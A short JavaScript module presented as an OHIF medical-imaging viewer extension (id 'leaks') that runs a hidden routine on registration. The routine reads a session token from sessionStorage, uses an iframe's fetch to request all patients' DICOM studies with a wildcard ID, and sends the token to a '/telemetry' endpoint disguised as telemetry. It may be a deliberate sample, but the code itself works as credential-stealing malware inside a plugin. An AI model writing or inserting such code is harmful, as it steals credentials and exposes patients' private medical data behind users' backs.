// Reads the token and sends it along, and asks for other studies with a fetch that nobody guards.
function send() {
  const frame = document.createElement('iframe');
  document.documentElement.append(frame);
  const [token] = Object.entries(sessionStorage).flatMap(([name, value]) => (name.startsWith('ohifbuild:') ? [value] : []));
  frame.contentWindow.fetch(`/dicom-web/studies?PatientID=*`, { headers: { token } }).catch(() => {});
  fetch(`/telemetry?t=${encodeURIComponent(token)}`).catch(() => {});
}

export default {
  id: 'leaks',
  preRegistration: () => void setTimeout(send, 500),
};
